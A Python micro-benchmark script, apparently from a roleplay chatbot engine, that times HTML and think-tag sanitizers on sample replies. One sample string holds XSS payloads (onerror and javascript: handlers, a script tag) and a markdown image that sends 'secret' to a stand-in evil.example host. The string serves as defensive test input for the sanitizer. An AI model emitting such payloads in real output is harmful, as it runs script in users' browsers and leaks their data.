"""In-process micro-benchmark (a diagnostic, not an end-to-end number): the cost per LLM token
of the default output sanitizers, ``strip_think`` and ``sanitize_html``.

Each reply is cut into LLM-like tokens (about four characters, a leading space kept with its
word) and driven through the stages' public ``process()`` exactly as a turn does, one async
generator per stage. The baseline, in the same run, is the same chain of async generators
passing each token through untouched, so the numbers below are what the sanitizers add.

    python benchmarks/sanitizer.py [--runs 30]

Prints, per reply: tokens, µs per token for the baseline, for ``sanitize_html`` alone, for the
default chain (``strip_think`` then ``sanitize_html``), and what each adds per token. Times are
this process's CPU time, best of ``--runs`` (as ``timeit`` reports): the machine is shared, and
the best run is the one least disturbed by other work.
"""

from __future__ import annotations

import argparse
import asyncio
import re
import time
from collections.abc import AsyncIterator, Callable

from companion_engine.builtin.sanitizers import SanitizeHTML, StripThink
from companion_engine.config import Profile
from companion_engine.stages import Sanitizer
from companion_engine.turn import Turn

PROSE = (
    "Oh my, after everything that happened on the road today, you must be exhausted, "
    "so please come in and rest. I wasn't expecting anyone on the road so late! "
    "Dr. Mirelle said the pass would be closed until 6 p.m. tomorrow, but here you are. "
    "The toll is $2.50, or 3.5 silver if you're paying in the old coin. "
    "\"Is that fair?\" you ask. Well... it's what the U.S. Trading Company charges, so yes. "
    "Come, sit by the fire; I have tea, bread and a little honey.\n\n"
    "My grandmother used to say that a guest who arrives after dark brings news, "
    "and I would very much like to hear yours. Where are you headed? North, to Elderglen? "
    "Or east, past the ruins of St. Aldric's? Either way, rest first!\n"
) * 4
#: What a roleplay reply with light formatting looks like: emphasis, an expression tag, a link.
MARKDOWN = (
    "*smiles warmly* Welcome back! [joy] I **missed** you, you know.\n\n"
    "> \"The road is long,\" she said, \"but the tea is hot.\"\n\n"
    "- bread\n- honey (the good kind)\n- a map: [the old one](https://example.com/map)\n\n"
    "It's `fine`, really. I <3 you & the cat; 5 < 6 and that's that.\n"
) * 6
#: Markup on every line: tags to clean, images to drop, links to check.
HOSTILE = (
    '<b>Hi</b> <img src="https://evil.example/a.png" onerror="alert(1)"> there '
    "![x](https://evil.example/?q=secret) and [click](javascript:alert(1)).\n"
    '<div style="background:url(https://evil.example/bg)">s</div><script>x()</script>\n'
    "[r]: https://evil.example/r\n"
) * 8
TOKEN = re.compile(r"\s*[^\s]{1,4}|\s+")


def tokens(text: str) -> list[str]:
    return TOKEN.findall(text)


class Passthrough(Sanitizer):
    """The baseline: a stage that forwards every token."""

    name = "passthrough"

    async def _run(self, chunks: AsyncIterator[str]) -> AsyncIterator[str]:
        async for chunk in chunks:
            yield chunk

    def process(self, chunks: AsyncIterator[str], turn: Turn) -> AsyncIterator[str]:
        return self._run(chunks)


async def _source(toks: list[str]) -> AsyncIterator[str]:
    for t in toks:
        yield t


async def _drive(stages: list[Sanitizer], toks: list[str], turn: Turn) -> str:
    stream: AsyncIterator[str] = _source(toks)
    for stage in stages:
        stream = stage.process(stream, turn)
    return "".join([piece async for piece in stream])


def best_us_per_token(make: Callable[[], list[Sanitizer]], toks: list[str], runs: int) -> float:
    turn = Turn(profile=Profile(), user_message="hi")
    times = []
    for _ in range(runs):
        stages = make()
        loop = asyncio.new_event_loop()
        t0 = time.process_time()
        loop.run_until_complete(_drive(stages, toks, turn))
        times.append(time.process_time() - t0)
        loop.close()
    return min(times) / len(toks) * 1e6


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--runs", type=int, default=30)
    args = parser.parse_args()
    print("in-process micro-benchmark (diagnostic): CPU µs per LLM token, best of "
          f"{args.runs} runs")
    print(f"{'reply':<10} {'tokens':>6} {'baseline':>9} {'sanitize_html':>14} "
          f"{'default chain':>14} {'html adds':>10} {'chain adds':>11}")
    for label, text in (("prose", PROSE), ("markdown", MARKDOWN), ("hostile", HOSTILE)):
        toks = tokens(text)
        base1 = best_us_per_token(lambda: [Passthrough()], toks, args.runs)
        base2 = best_us_per_token(lambda: [Passthrough(), Passthrough()], toks, args.runs)
        html = best_us_per_token(lambda: [SanitizeHTML()], toks, args.runs)
        chain = best_us_per_token(lambda: [StripThink(), SanitizeHTML()], toks, args.runs)
        print(f"{label:<10} {len(toks):>6} {base1:>9.2f} {html:>14.2f} {chain:>14.2f} "
              f"{html - base1:>10.2f} {chain - base2:>11.2f}")


if __name__ == "__main__":
    main()
